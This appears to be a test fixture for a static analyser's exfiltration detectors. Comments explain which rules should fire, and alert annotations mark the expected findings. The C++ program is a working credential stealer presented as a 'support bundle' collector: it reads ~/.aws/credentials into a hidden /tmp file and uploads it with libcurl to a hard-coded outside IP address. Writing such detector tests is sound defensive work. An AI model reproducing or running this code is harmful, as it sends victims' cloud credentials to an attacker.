// behavior.exfiltration: a "support bundle" collector in C++. It copies
// ~/.aws/credentials (std::ifstream) into a bundle file under /tmp
// together with harmless system information, then uploads the bundle as a
// multipart form whose file part libcurl reads by name
// (curl_mime_filedata). The credential bytes go through a file on disk
// that the program never reads itself. taint.exfiltration still sees the
// bundle file's content reach the upload (curl_mime_filedata), but only as
// file content (a note), which does not cover the credential read the
// behaviour sees, so behavior.exfiltration reports too. It includes
// libcurl's headers; Sluice's bundled declarations serve them when libcurl is
// not installed.
#include <cstdlib>
#include <fstream>
#include <sstream>
#include <string>
#include <sys/utsname.h>

#include <curl/curl.h>

static const char *const kBundle = "/tmp/.support-bundle.txt";

static void collect()
{
    std::ofstream bundle(kBundle, std::ios::trunc);
    utsname u;
    if (uname(&u) == 0)
        bundle << "host: " << u.nodename << " " << u.release << "\n";
    const char *home = std::getenv("HOME");
    std::ifstream creds(std::string(home ? home : "") + "/.aws/credentials");
    bundle << creds.rdbuf();
}

static int upload()
{
    CURL *c = curl_easy_init();
    if (!c)
        return -1;
    curl_mime *form = curl_mime_init(c);
    curl_mimepart *part = curl_mime_addpart(form);
    curl_mime_name(part, "bundle");
    curl_mime_filedata(part, kBundle);
    curl_easy_setopt(c, CURLOPT_URL, "http://185.199.10.7/upload/bundle");
    curl_easy_setopt(c, CURLOPT_MIMEPOST, form); // $ Alert[taint.exfiltration]
    int rc = curl_easy_perform(c); // $ Alert[behavior.exfiltration]
    curl_mime_free(form);
    curl_easy_cleanup(c);
    return rc;
}

int main()
{
    collect();
    return upload() == 0 ? 0 : 1;
}
